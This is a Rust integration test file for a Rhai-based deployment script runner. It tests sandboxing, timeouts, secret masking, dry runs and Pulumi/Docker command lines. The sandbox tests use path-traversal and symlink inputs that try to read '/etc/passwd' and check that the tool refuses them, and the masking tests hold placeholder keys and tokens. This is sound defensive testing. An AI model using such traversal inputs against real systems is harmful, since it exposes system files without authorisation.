//! `pilum run` and the script API end to end: limits, timeouts and surviving children, the
//! sandbox, command errors, secret redaction, dry runs, rendered errors, the Pulumi argv, the
//! stdlib, git queries and `pilum api`.

use std::time::Duration;

use crate::common::{Test, gone};

#[test]
fn hello_example_runs() {
    let t = Test::new().file("hello.rhai", include_str!("../examples/hello.rhai")).args([
        "run",
        "hello.rhai",
        "--",
        "world",
    ]);
    let r = t.run().success();
    assert!(r.stdout.starts_with("hello, world!\n"), "{}", r.stdout);
    assert!(r.stdout.contains("ghcr.io/acme/api:1.2.3"));
}

#[test]
fn args_and_exit_code() {
    let t = Test::new()
        .file("main.rhai", "print(ARGS.len()); print(ARGS[1]); exit(ARGS[0].parse_int());")
        .args(["run", "main.rhai", "--", "7", "two words"]);
    let r = t.run().code(7);
    assert_eq!(r.stdout, "2\ntwo words\n");
    assert_eq!(r.stderr, "");
}

#[test]
fn uncaught_error_exits_1_and_syntax_error_2() {
    Test::new().file("main.rhai", "throw \"boom\";").args(["run", "main.rhai"]).run().code(1);
    Test::new().file("main.rhai", "let = 1;").args(["run", "main.rhai"]).run().code(2);
    Test::new().args(["run", "missing.rhai"]).run().code(2);
}

#[test]
fn operation_limit_stops_a_runaway_loop_and_no_child_survives() {
    let t = Test::new()
        .file(
            "main.rhai",
            r#"let r = exec::run(["sh", "-c", "sleep 1000 >/dev/null 2>&1 & echo $!"]);
fs::write("child.pid", r.stdout);
while true {}
"#,
        )
        .args(["run", "--max-operations", "100000", "main.rhai"]);
    let r = t.run().code(1);
    assert!(r.stderr.contains("error: script exceeded its operation limit"), "{}", r.stderr);
    assert!(r.stderr.contains(" --> main.rhai:3:"), "{}", r.stderr);
    let pid = std::fs::read_to_string(t.path().join("child.pid")).expect("pid recorded");
    assert!(gone(&pid), "background child {pid} survived");
}

#[test]
fn timeout_stops_a_blocked_command_and_kills_it() {
    let t = Test::new()
        .file("main.rhai", r#"exec::run(["sh", "-c", "echo $$ > child.pid; exec sleep 1000"]);"#)
        .args(["run", "--timeout", "1s", "main.rhai"]);
    let start = std::time::Instant::now();
    let r = t.run().code(1);
    assert!(start.elapsed() < Duration::from_secs(30));
    assert!(
        r.stderr.starts_with("error: script timed out after 1s\n --> main.rhai:1:7"),
        "{}",
        r.stderr
    );
    let pid = std::fs::read_to_string(t.path().join("child.pid")).expect("pid recorded");
    assert!(gone(&pid), "child {pid} survived the timeout");
}

#[test]
fn a_command_timeout_is_an_ordinary_error() {
    let t = Test::new()
        .file(
            "main.rhai",
            r#"try { exec::run(["sleep", "1000"], #{ timeout: 0.3 }); } catch (e) { print(e); }"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().success();
    assert_eq!(r.stdout, "command `sleep 1000` timed out after 300ms\n");
}

#[test]
fn paths_and_imports_outside_the_project_are_refused() {
    for (script, needle) in [
        (
            r#"fs::read("../../etc/passwd")"#,
            "path `../../etc/passwd` is refused: it leaves the project root",
        ),
        (r#"fs::read("/etc/passwd")"#, "path `/etc/passwd` is refused: it is outside the project"),
        (
            r#"import "/etc/x" as x;"#,
            "import `/etc/x` is refused: absolute paths are outside the project",
        ),
        (r#"import "../../x" as x;"#, "import `../../x` is refused: it leaves the project root"),
        (r#"exec::run(["ls"], #{ dir: "/" })"#, "path `/` is refused"),
    ] {
        let t = Test::new().file("sub/main.rhai", script).args(["run", "sub/main.rhai"]);
        let r = t.run().code(1);
        assert!(r.stderr.contains(needle), "{script}: {}", r.stderr);
        assert!(!r.stdout.contains("root:"), "{script} leaked a file");
    }
}

#[test]
fn symlink_escape_is_refused() {
    let t = Test::new()
        .file("main.rhai", r#"print(fs::read("link/passwd"))"#)
        .args(["run", "main.rhai"]);
    std::os::unix::fs::symlink("/etc", t.path().join("link")).expect("symlink");
    let r = t.run().code(1);
    assert!(
        r.stderr.contains("the symlink `link` points to the absolute path `/etc`"),
        "{}",
        r.stderr
    );
    let t =
        Test::new().file("main.rhai", r#"print(fs::glob("link/*"))"#).args(["run", "main.rhai"]);
    std::os::unix::fs::symlink("/etc", t.path().join("link")).expect("symlink");
    let r = t.run().code(1);
    assert!(r.stderr.contains("the symlink `link` points to the absolute path"), "{}", r.stderr);
    assert!(!r.stdout.contains("passwd"));
}

/// A directory next to the project and the relative path from the project to it
/// (`../<name>`), for symlinks that climb out.
fn outside(t: &Test) -> (tempfile::TempDir, String) {
    let parent = t.path().parent().expect("temp dirs have a parent");
    let dir =
        tempfile::Builder::new().prefix("pilum-outside").tempdir_in(parent).expect("temp dir");
    let name = dir.path().file_name().expect("named").to_string_lossy().into_owned();
    (dir, format!("../{name}"))
}

#[test]
fn writes_through_symlinks_out_of_the_project_are_refused() {
    for script in [
        r#"fs::write("dangling", "x")"#,
        r#"fs::tar_gz([], "dangling")"#,
        r#"fs::write("out/new.txt", "x")"#,
        r#"fs::write("out/deep/new.txt", "x")"#,
        r#"fs::mkdir("out/deep")"#,
        r#"fs::tar_gz([], "out/app.tar.gz")"#,
        r#"fs::remove("out/keep.txt")"#,
        r#"print(fs::exists("out/keep.txt"))"#,
        r#"print(fs::sha256("out/keep.txt"))"#,
    ] {
        let t = Test::new().file("main.rhai", script).args(["run", "main.rhai"]);
        let (out, rel) = outside(&t);
        std::fs::write(out.path().join("keep.txt"), "keep").expect("write");
        std::os::unix::fs::symlink(format!("{rel}/new.txt"), t.path().join("dangling"))
            .expect("symlink");
        std::os::unix::fs::symlink(&rel, t.path().join("out")).expect("symlink");
        let r = t.run().code(1);
        assert!(
            r.stderr.contains("leads outside the project through the symlink `dangling`")
                || r.stderr.contains("leads outside the project through the symlink `out`"),
            "{script}: {}",
            r.stderr
        );
        let left: Vec<_> = std::fs::read_dir(out.path())
            .expect("read outside")
            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(left, ["keep.txt"], "{script} touched the outside");
        assert!(!r.stdout.contains("true"), "{script}: {}", r.stdout);
    }
}

#[test]
fn a_fifo_in_the_project_never_hangs_a_read_or_a_write() {
    for (script, needle) in [
        (r#"fs::read("pipe")"#, "cannot read `pipe`: it is not a regular file"),
        (r#"fs::sha256("pipe")"#, "cannot read `pipe`: it is not a regular file"),
        (r#"fs::read("sub")"#, "cannot read `sub`: it is a directory"),
        (r#"fs::write("pipe", "x")"#, "cannot write `pipe`"),
    ] {
        let t = Test::new().file("sub/x", "").file("main.rhai", script).args(["run", "main.rhai"]);
        let made = std::process::Command::new("mkfifo")
            .arg(t.path().join("pipe"))
            .status()
            .expect("mkfifo (coreutils) is installed");
        assert!(made.success(), "mkfifo");
        let r = t.run().code(1);
        assert!(r.stderr.contains(needle), "{script}: {}", r.stderr);
    }
}

#[test]
fn symlinks_inside_the_project_keep_working() {
    let t = Test::new()
        .file("real/VERSION", "1.2.3\n")
        .file(
            "main.rhai",
            r#"fs::write("alias/out.txt", fs::read("alias/VERSION"));
fs::write("new-link", "n");
fs::remove("alias");
print(fs::read("real/out.txt") + fs::read("real/new.txt"));"#,
        )
        .args(["run", "main.rhai"]);
    std::os::unix::fs::symlink("real", t.path().join("alias")).expect("symlink");
    std::os::unix::fs::symlink("real/new.txt", t.path().join("new-link")).expect("symlink");
    let r = t.run().success();
    assert_eq!(r.stdout, "1.2.3\nn\n");
    assert!(t.path().join("real/VERSION").exists(), "removing a link keeps its target");
}

#[test]
fn an_import_through_a_symlink_is_refused_and_says_which() {
    let t = Test::new()
        .file("main.rhai", r#"import "./lib/util" as u; print(u::f());"#)
        .file("dangling.rhai", r#"import "./lib/gone" as g;"#)
        .args(["run", "main.rhai"]);
    let (out, rel) = outside(&t);
    std::fs::write(out.path().join("util.rhai"), "fn f() { \"outside\" }").expect("write");
    std::fs::create_dir_all(t.path().join("lib")).expect("mkdir");
    std::os::unix::fs::symlink(format!("../{rel}/util.rhai"), t.path().join("lib/util.rhai"))
        .expect("symlink");
    std::os::unix::fs::symlink(format!("../{rel}/gone.rhai"), t.path().join("lib/gone.rhai"))
        .expect("symlink");
    let r = t.run().code(1);
    assert!(
        r.stderr.contains(&format!(
            "import `./lib/util` is refused: it leads outside the project through the symlink `lib/util.rhai` (pointing to `../{rel}/util.rhai`)"
        )),
        "{}",
        r.stderr
    );
    assert!(!r.stdout.contains("outside"));
    // A dangling symlink is refused for the same reason, not reported as missing.
    let r = t.clear_args().args(["run", "dangling.rhai"]).run().code(1);
    assert!(r.stderr.contains("through the symlink `lib/gone.rhai`"), "{}", r.stderr);
    assert!(!r.stderr.contains("not found"), "{}", r.stderr);
}

#[test]
fn project_modules_resolve_relative_to_the_importer() {
    let t = Test::new()
        .file("lib/util.rhai", "import \"./more\" as more;\nfn greet(x) { `${more::prefix()} ${x}` }\n")
        .file("lib/more.rhai", "fn prefix() { \"hello\" }\n")
        .file("scripts/main.rhai", "import \"../lib/util\" as util;\nimport \"../lib/util\" as again;\nprint(util::greet(\"a\"));\nprint(again::greet(\"b\"));\n")
        .args(["run", "scripts/main.rhai"]);
    assert_eq!(t.run().success().stdout, "hello a\nhello b\n");
}

#[test]
fn exec_false_fails_naming_the_command_unless_unchecked() {
    let t = Test::new().file("main.rhai", r#"exec::run(["false"]);"#).args(["run", "main.rhai"]);
    let r = t.run().code(1);
    assert!(
        r.stderr.starts_with("error: command `false` failed with exit code 1\n"),
        "{}",
        r.stderr
    );

    let t = Test::new()
        .file("main.rhai", r#"let r = exec::run(["false"], #{ check: false }); print(r.code);"#)
        .args(["run", "main.rhai"]);
    assert_eq!(t.run().success().stdout, "1\n");
}

#[test]
fn failed_command_shows_the_tail_of_stderr() {
    let t = Test::new()
        .file(
            "main.rhai",
            r#"exec::run(["sh", "-c", "for i in $(seq 1 30); do echo line$i >&2; done; exit 4"]);"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().code(1);
    assert!(r.stderr.contains("failed with exit code 4\n"), "{}", r.stderr);
    assert!(r.stderr.contains("  last output lines:\n  | line11\n"), "{}", r.stderr);
    assert!(r.stderr.contains("  | line30\n"));
    assert!(!r.stderr.contains("| line10\n"));
}

#[test]
fn exec_options_and_sh() {
    let t = Test::new()
        .file("sub/x.txt", "")
        .file(
            "main.rhai",
            r#"let r = exec::run(["sh", "-c", "pwd; echo $GREETING"], #{ dir: "sub", env: #{ GREETING: "hi" } });
print(r.stdout);
print(exec::sh("echo a | tr a b").stdout);
print(exec::run(["cat"], #{ stdin: "piped" }).stdout);
print(exec::which("sh") != ());
print(exec::which("pilum-nope") == ());
try { exec::run(["true"], #{ dri: "x" }); } catch (e) { print(e); }"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().success();
    let root = t.path().canonicalize().expect("canonical root");
    assert_eq!(
        r.stdout,
        format!(
            "{}/sub\nhi\n\nb\n\npiped\ntrue\ntrue\nunknown option `dri` for `exec::run`\nhelp: did you mean `dir`?\n",
            root.display()
        )
    );
}

/// A throwaway PEM-shaped key (random base64, no key material).
const PEM: &str = "-----BEGIN PRIVATE KEY-----
MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj
MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu
NMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ
-----END PRIVATE KEY-----
";

/// Every line of a multi-line secret long enough to be masked on its own.
fn secret_lines(secret: &str) -> impl Iterator<Item = &str> {
    secret.lines().map(str::trim).filter(|l| l.len() >= 8)
}

#[test]
fn multi_line_secrets_are_masked_line_by_line_everywhere() {
    let credentials = "{\n  \"type\": \"service_account\",\n  \"private_key_id\": \"4f1c0a9e7b2d4c6e8a0b\",\n  \"client_email\": \"deploy@acme-prod.iam.example.com\"\n}\n";
    let script = r#"let key = env::secret("SIGNING_CERT");
exec::run(["sh", "-c", "printf '%s\n' \"$SIGNING_CERT\"; printf 'err %s\n' \"$SIGNING_CERT\" >&2; cat \"$CREDS_FILE\""]);
print(key);
log::warn(`key is ${key}`);
throw `cannot sign with ${key}`;
"#;
    let t = Test::new()
        .file("main.rhai", script)
        .file("creds.json", credentials)
        .env("SIGNING_CERT", PEM)
        .env("GOOGLE_CREDENTIALS", credentials)
        .args(["-v", "run", "main.rhai"]);
    let creds = t.path().join("creds.json");
    let t = t.env("CREDS_FILE", creds);
    let r = t.run().code(1);
    let all = format!("{}{}", r.stdout, r.stderr);
    for line in secret_lines(PEM).chain(secret_lines(credentials)) {
        assert!(!all.contains(line), "`{line}` leaked:\n{all}");
    }
    assert!(r.stdout.contains("***"), "{}", r.stdout);
    assert!(all.contains("err ***"), "{all}");
    // The rendered error puts the message's first line before the location and the rest
    // after it: both halves are masked.
    assert!(r.stderr.contains("error: cannot sign with ***"), "{}", r.stderr);
    assert!(r.stderr.contains("--> main.rhai:5:1"), "{}", r.stderr);
}

#[test]
fn variables_named_like_secrets_are_masked_when_read_or_inherited() {
    let script = r#"print(env::get("AWS_SECRET_ACCESS_KEY"));
print(env::get_or("STRIPE_API_KEY", ""));
print(env::get("CACHE_KEY"));
print(env::get("REGION_NAME"));
print(exec::run(["sh", "-c", "echo child sees $GITHUB_TOKEN"]).stdout);
"#;
    let t = Test::new()
        .file("main.rhai", script)
        .env("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
        .env("STRIPE_API_KEY", "sk_test_4eC39HqLyjWDarjtT1zdp7dc")
        .env("CACHE_KEY", "true")
        .env("REGION_NAME", "eu-west-1-extra")
        .env("GITHUB_TOKEN", "ghp_16C7e42F292c6912E7710c838347Ae178B4a")
        .args(["run", "main.rhai"]);
    let r = t.run().success();
    assert_eq!(r.stdout, "***\n***\ntrue\neu-west-1-extra\nchild sees ***\n\n", "{}", r.stderr);
    // The opt-out names the variables that are not secret after all.
    let r = t.env("PILUM_NO_AUTO_MASK", "aws_secret_access_key, GITHUB_TOKEN").run().success();
    assert_eq!(
        r.stdout,
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n***\ntrue\neu-west-1-extra\nchild sees ghp_16C7e42F292c6912E7710c838347Ae178B4a\n\n"
    );
}

#[test]
fn secrets_never_reach_any_output() {
    let script = r#"let t = env::secret("DEPLOY_TOKEN");
let r = exec::run(["sh", "-c", "echo token=$DEPLOY_TOKEN; echo err=$DEPLOY_TOKEN >&2"]);
print(r.stdout);
log::info(`using ${t}`);
log::warn(t);
debug(t);
exec::run(["sh", "-c", "echo failing with $DEPLOY_TOKEN >&2; exit 3"]);
"#;
    for json in [false, true] {
        let mut t = Test::new()
            .file("main.rhai", script)
            .env("DEPLOY_TOKEN", "s3cr3t-VALUE-42")
            .args(["-vv"]);
        if json {
            t = t.arg("--json");
        }
        let r = t.args(["run", "main.rhai"]).run().code(1);
        for (name, text) in [("stdout", &r.stdout), ("stderr", &r.stderr)] {
            assert!(!text.contains("s3cr3t-VALUE-42"), "json={json} secret in {name}:\n{text}");
        }
        let all = format!("{}{}", r.stdout, r.stderr);
        assert!(all.contains("token=***"), "json={json}: {all}");
        assert!(all.contains("err=***"), "json={json}: {all}");
        assert!(all.contains("failing with ***"), "json={json}: {all}");
        if json {
            for line in r.stdout.lines() {
                serde_json::from_str::<serde_json::Value>(line).expect("stdout is NDJSON");
            }
        }
    }
}

#[test]
fn dry_run_prints_commands_and_runs_none() {
    let t = Test::new()
        .fake("docker", "echo built")
        .fake("pulumi", "echo '{\"value\":\"1\",\"secret\":false}'")
        .file("Pulumi.dev.yaml", "config:\n  app:replicas: \"1\"\n")
        .file(
            "main.rhai",
            r#"import "docker" as docker;
let r = exec::run(["docker", "build", "."]);
print(`code=${r.code} out=${r.stdout}`);
docker::build(#{ context: "web", tags: ["ghcr.io/acme/web:1"], build_args: #{ V: "1" } });
docker::push("ghcr.io/acme/web:1");
exec::sh("docker system prune -f");
fs::write("out.txt", "x");
fs::mkdir("dist");
pulumi::config_set("app:replicas", 3, #{ stack: "dev" });
pulumi::up(#{ stack: "dev", targets: ["urn:a"] });
print(fs::read("Pulumi.dev.yaml").len() > 0);
print(pulumi::config_get("app:replicas", #{ stack: "dev" }));
"#,
        )
        .args(["run", "--dry-run", "main.rhai"]);
    let r = t.run().success();
    assert_eq!(t.calls("docker"), Vec::<Vec<String>>::new());
    // Read-only calls still run: only `config get` reached the fake.
    assert_eq!(
        t.calls("pulumi"),
        vec![[
            "config",
            "get",
            "app:replicas",
            "--json",
            "--stack",
            "dev",
            "--non-interactive",
            "--color",
            "never"
        ]]
    );
    assert!(!t.path().join("out.txt").exists());
    assert!(!t.path().join("dist").exists());
    assert_eq!(
        r.stdout,
        "dry-run exec::run: docker build .
code=0 out=
dry-run exec::run: docker build --tag ghcr.io/acme/web:1 --build-arg V=1 web
dry-run exec::run: docker push ghcr.io/acme/web:1
dry-run exec::sh: sh -c 'docker system prune -f'
dry-run fs::write: out.txt (1 bytes)
dry-run fs::mkdir: dist
dry-run pulumi::config_set: pulumi config set app:replicas 3 --plaintext --stack dev --non-interactive --color never
dry-run pulumi::up: pulumi up --yes --skip-preview --target urn:a --stack dev --non-interactive --color never
true
1
"
    );
}

#[test]
fn rendered_parse_error_is_pinned() {
    let t =
        Test::new().file("main.rhai", "let a = 1;\nlet b = (a + ;\n").args(["run", "main.rhai"]);
    let r = t.run().code(2);
    assert_eq!(
        r.stderr,
        "error: unexpected ';'
 --> main.rhai:2:14
  |
2 | let b = (a + ;
  |              ^
"
    );
}

#[test]
fn rendered_nested_runtime_error_is_pinned() {
    let t = Test::new()
        .file(
            "main.rhai",
            "fn inner(x) {\n    let y = x.missing_method();\n}\n\nfn outer() {\n    inner(1);\n}\n\nouter();\n",
        )
        .args(["run", "main.rhai"]);
    let r = t.run().code(1);
    assert_eq!(
        r.stderr,
        "error: function not found: `missing_method (i64)`
 --> main.rhai:2:15
  |
2 |     let y = x.missing_method();
  |               ^
  = note: in `inner` called from main.rhai:6:5
  = note: in `outer` called from main.rhai:9:1
"
    );
}

#[test]
fn rendered_api_error_keeps_its_position() {
    let t = Test::new()
        .file("lib/steps.rhai", "fn build() {\n    exec::run([\"false\"]);\n}\n")
        .file("main.rhai", "import \"./lib/steps\" as steps;\n\nsteps::build();\n")
        .args(["run", "main.rhai"]);
    let r = t.run().code(1);
    assert_eq!(
        r.stderr,
        "error: command `false` failed with exit code 1
 --> lib/steps.rhai:2:11
  |
2 |     exec::run([\"false\"]);
  |           ^
  = note: in `build` called from main.rhai:3:8
"
    );
}

#[test]
fn pulumi_functions_produce_the_documented_argv() {
    let t = Test::new()
        .fake(
            "pulumi",
            r#"case "$1 $2" in
  "config get") echo '{"value":"3","secret":false}' ;;
  "preview --json") echo '{"steps":[{"op":"update","urn":"urn:a","diffReasons":["replicas"]}],"changeSummary":{"update":1,"same":2}}' ;;
  "refresh --preview-only") echo '{"steps":[],"changeSummary":{"same":3}}' ;;
  "stack output") echo '{"url":"https://x"}' ;;
esac"#,
        )
        .file("infra/Pulumi.yaml", "name: app\n")
        .file(
            "main.rhai",
            r#"let o = #{ stack: "prod", cwd: "infra" };
print(pulumi::config_get("app:replicas", o));
pulumi::config_set("app:replicas", 4, o);
pulumi::config_set("app:token", "tok-123456", #{ stack: "prod", secret: true });
pulumi::config_set_all(#{ "app:b": 2, "app:a": "x" }, #{ stack: "prod", path: true });
pulumi::up(#{ stack: "prod", targets: ["urn:a", "urn:b"], target_dependents: true, message: "scale web" });
let p = pulumi::preview(#{ stack: "prod", targets: ["urn:a"], config_file: "infra/alt.yaml" });
print(p.changeSummary.update);
print(p.steps[0].diffReasons[0]);
print(pulumi::refresh_preview(#{ stack: "prod" }).changeSummary.same);
print(pulumi::outputs(#{ stack: "prod" }).url);
pulumi::config_refresh(#{ stack: "prod", force: true });
"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().success();
    assert_eq!(r.stdout, "3\n1\nreplicas\n3\nhttps://x\n");
    let root = t.path().canonicalize().expect("root");
    let infra = root.join("infra").display().to_string();
    let alt = root.join("infra/alt.yaml").display().to_string();
    let tail = ["--non-interactive", "--color", "never"];
    let mk = |parts: &[&str]| -> Vec<String> {
        parts.iter().chain(tail.iter()).map(std::string::ToString::to_string).collect()
    };
    assert_eq!(
        t.calls("pulumi"),
        vec![
            mk(&["config", "get", "app:replicas", "--json", "--cwd", &infra, "--stack", "prod"]),
            mk(&[
                "config",
                "set",
                "app:replicas",
                "4",
                "--plaintext",
                "--cwd",
                &infra,
                "--stack",
                "prod"
            ]),
            mk(&["config", "set", "app:token", "tok-123456", "--secret", "--stack", "prod"]),
            mk(&[
                "config",
                "set-all",
                "--path",
                "--plaintext",
                "app:a=x",
                "--plaintext",
                "app:b=2",
                "--stack",
                "prod"
            ]),
            mk(&[
                "up",
                "--yes",
                "--skip-preview",
                "--target",
                "urn:a",
                "--target",
                "urn:b",
                "--target-dependents",
                "--message",
                "scale web",
                "--stack",
                "prod"
            ]),
            mk(&[
                "preview",
                "--json",
                "--target",
                "urn:a",
                "--stack",
                "prod",
                "--config-file",
                &alt
            ]),
            mk(&["refresh", "--preview-only", "--json", "--stack", "prod"]),
            mk(&["stack", "output", "--json", "--stack", "prod"]),
            mk(&["config", "refresh", "--force", "--stack", "prod"]),
        ]
    );
}

#[test]
fn pulumi_preview_with_config_leaves_the_stack_file_unchanged() {
    let stack = "config:\n  app:replicas: \"2\"\n  app:cpu: \"256\"\n";
    let t = Test::new()
        // The fake writes into whichever file `--config-file` names, like the real CLI.
        .fake(
            "pulumi",
            r#"file=""; prev=""
for a in "$@"; do [ "$prev" = "--config-file" ] && file="$a"; prev="$a"; done
case "$1 $2" in
  "config set-all") echo "  changed: true" >> "$file" ;;
  "preview --json") grep -q changed "$file" && echo '{"steps":[],"changeSummary":{"update":1}}' ;;
esac"#,
        )
        .file("infra/Pulumi.prod.yaml", stack)
        .file(
            "main.rhai",
            r#"let p = pulumi::preview_with_config(#{ "app:replicas": 6 }, #{ stack: "prod", cwd: "infra" });
print(p.changeSummary.update);"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().success();
    assert_eq!(r.stdout, "1\n");
    assert_eq!(
        std::fs::read_to_string(t.path().join("infra/Pulumi.prod.yaml")).expect("stack file"),
        stack
    );
    let calls = t.calls("pulumi");
    assert_eq!(calls.len(), 2);
    assert_eq!(calls[0][..4], ["config", "set-all", "--plaintext", "app:replicas=6"]);
    assert_eq!(calls[1][..2], ["preview", "--json"]);
    let tmp = |c: &Vec<String>| {
        c[c.iter().position(|a| a == "--config-file").expect("has --config-file") + 1].clone()
    };
    assert_eq!(tmp(&calls[0]), tmp(&calls[1]));
    assert!(!tmp(&calls[0]).ends_with("Pulumi.prod.yaml"));
    assert!(!std::path::Path::new(&tmp(&calls[0])).exists(), "temporary config file left behind");
}

#[test]
fn pulumi_lock_conflict_is_explained() {
    let t = Test::new()
        .fake(
            "pulumi",
            "echo 'error: [409] Conflict: Another update is currently in progress.' >&2; exit 255",
        )
        .file("main.rhai", r#"pulumi::up(#{ stack: "prod" });"#)
        .args(["run", "main.rhai"]);
    let r = t.run().code(1);
    assert!(r.stderr.contains("failed with exit code 255"), "{}", r.stderr);
    assert!(r.stderr.contains("help: another update holds the stack lock"), "{}", r.stderr);
}

#[test]
fn docker_stdlib_builds_tags_and_pushes() {
    let t = Test::new()
        .fake("docker", "true")
        .file(
            "main.rhai",
            r#"import "docker" as docker;
let img = docker::artifact_registry("europe-west1", "proj", "repo", "api", "v1");
docker::build(#{ context: "api", dockerfile: "api/Dockerfile", tags: [img], build_args: #{ B: "2", A: "1" },
                labels: #{ "org.opencontainers.image.revision": "abc" }, platforms: ["linux/amd64", "linux/arm64"] });
docker::tag(img, docker::gcr("proj", "api", "latest"));
docker::push(img);
print(docker::acr("reg", "api", "v1"));
print(docker::docker_hub("library", "nginx", "1.27"));
print(docker::ecr("1", "us-east-1", "api", "sha256:abc"));
print(docker::registry_of(img));
print(docker::registry_of("nginx:1"));
"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().success();
    assert_eq!(
        r.stdout,
        "reg.azurecr.io/api:v1\ndocker.io/library/nginx:1.27\n1.dkr.ecr.us-east-1.amazonaws.com/api@sha256:abc\neurope-west1-docker.pkg.dev\ndocker.io\n"
    );
    let img = "europe-west1-docker.pkg.dev/proj/repo/api:v1";
    assert_eq!(
        t.calls("docker"),
        vec![
            vec![
                "buildx",
                "build",
                "--file",
                "api/Dockerfile",
                "--tag",
                img,
                "--build-arg",
                "A=1",
                "--build-arg",
                "B=2",
                "--label",
                "org.opencontainers.image.revision=abc",
                "--platform",
                "linux/amd64,linux/arm64",
                "api"
            ],
            vec!["tag", img, "gcr.io/proj/api:latest"],
            vec!["push", img],
        ]
    );
}

#[test]
fn retry_stdlib_retries_then_gives_up() {
    let t = Test::new()
        .file(
            "main.rhai",
            r#"import "retry" as retry;
let n = 0;
let v = retry::run(|| { n += 1; if n < 3 { throw "flaky"; } n }, #{ attempts: 4, base: 0.01, max: 0.02 });
print(v);
try { retry::run(|| throw "down", #{ attempts: 2, base: 0.01 }); } catch (e) { print(e); }
// pilum's one backoff (`time::backoff`): full jitter in [0, min(max, base × 2^(n-1))].
let within = true;
let spread = false;
for n in 1..=7 {
    let cap = min(5.0, 2.0 ** (n - 1).to_float());
    let first = retry::delay(n, 1.0, 5.0);
    for i in 0..50 {
        let d = retry::delay(n, 1.0, 5.0);
        if d < 0.0 || d > cap { within = false; }
        if d != first { spread = true; }
    }
}
print(`${within} ${spread}`);"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().success();
    assert_eq!(r.stdout, "3\ngave up after 2 attempts: down\ntrue true\n");
    assert_eq!(r.stderr.matches("warning: attempt").count(), 3, "{}", r.stderr);
}

#[test]
fn fs_api_round_trip() {
    let t = Test::new()
        .file("data/a.json", r#"{"name":"api","ports":[80,443]}"#)
        .file("data/b.yaml", "name: web\nreplicas: 2\n")
        .file("data/sub/c.txt", "hello\n")
        .file(
            "main.rhai",
            r#"print(fs::read_json("data/a.json").ports[1]);
print(fs::read_yaml("data/b.yaml").replicas);
print(fs::glob("data/**/*.txt"));
print(fs::glob("data/*"));
fs::write("out/x.txt", "abc");
print(fs::exists("out/x.txt"));
print(fs::sha256("out/x.txt"));
let sum = fs::tar_gz(["data/sub/c.txt", "data/a.json"], "out/a.tar.gz");
print(sum == fs::sha256("out/a.tar.gz"));
fs::remove("out/x.txt");
print(fs::exists("out/x.txt"));
print(json::parse(json::stringify(#{ a: [1, 2.5, true, ()] })));
print(yaml::parse(yaml::stringify(#{ k: "v" })).k);
print(regex::replace_all("My Service", "[^A-Za-z]+", "-"));
print(regex::captures("v1.4.2", "^v(\\d+)\\.(\\d+)")[2]);
print(regex::named_captures("v1.4", "^v(?<major>\\d+)").major);
print(regex::is_match("abc", "^a"));
print(time::now() > 1700000000);"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().success();
    assert_eq!(
        r.stdout,
        "443\n2\n[\"data/sub/c.txt\"]\n[\"data/a.json\", \"data/b.yaml\"]\ntrue\nba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\ntrue\nfalse\n#{\"a\": [1, 2.5, true, ()]}\nv\nMy-Service\n4\n1\ntrue\ntrue\n"
    );
    // Reproducible: the same inputs give the same archive bytes.
    let first = std::fs::read(t.path().join("out/a.tar.gz")).expect("archive");
    std::thread::sleep(Duration::from_millis(1100));
    let t2 = Test::new()
        .file("data/a.json", r#"{"name":"api","ports":[80,443]}"#)
        .file("data/sub/c.txt", "hello\n")
        .file("main.rhai", r#"fs::tar_gz(["data/a.json", "data/sub/c.txt"], "a.tar.gz");"#)
        .args(["run", "main.rhai"]);
    t2.run().success();
    assert_eq!(first, std::fs::read(t2.path().join("a.tar.gz")).expect("archive"));
}

#[test]
fn env_api() {
    let t = Test::new()
        .env("PILUM_TEST_SET", "yes")
        .file(
            "main.rhai",
            r#"print(env::get("PILUM_TEST_SET"));
print(env::get("PILUM_TEST_UNSET") == ());
print(env::get_or("PILUM_TEST_UNSET", "dflt"));
env::require("PILUM_TEST_UNSET");"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().code(1);
    assert_eq!(r.stdout, "yes\ntrue\ndflt\n");
    assert!(
        r.stderr.starts_with("error: environment variable `PILUM_TEST_UNSET` is not set\n"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("help: export `PILUM_TEST_UNSET`"));
}

#[test]
fn git_changed_files_from_a_subdirectory() {
    let t = Test::new().file("services/api/main.go", "package main\n").file("README.md", "x\n");
    t.git(&["init", "-q", "-b", "main"]);
    t.git(&["add", "."]);
    t.git(&["commit", "-qm", "init"]);
    t.git(&["checkout", "-qb", "feature"]);
    std::fs::write(t.path().join("services/api/main.go"), "package main // changed\n")
        .expect("write");
    t.git(&["commit", "-qam", "change api"]);
    std::fs::create_dir_all(t.path().join("services/web")).expect("mkdir");
    std::fs::write(t.path().join("services/web/new.txt"), "untracked\n").expect("write");
    std::fs::write(t.path().join("staged.txt"), "s\n").expect("write");
    t.git(&["add", "staged.txt"]);
    std::fs::write(t.path().join("README.md"), "unstaged\n").expect("write");
    let t = t
        .file(
            "services/web/check.rhai",
            r#"print(git::changed_files("main"));
print(git::branch());
print(git::is_shallow());
print(git::sha().len());
print(git::tags());
print(git::root() == fs::read("root.txt"));"#,
        )
        .cwd("services/web")
        .args(["run", "check.rhai"]);
    std::fs::write(
        t.path().join("root.txt"),
        t.path().canonicalize().expect("root").display().to_string(),
    )
    .expect("write");
    let r = t.run().success();
    assert_eq!(
        r.stdout,
        "[\"README.md\", \"root.txt\", \"services/api/main.go\", \"services/web/check.rhai\", \"services/web/new.txt\", \"staged.txt\"]\nfeature\nfalse\n40\n[]\ntrue\n"
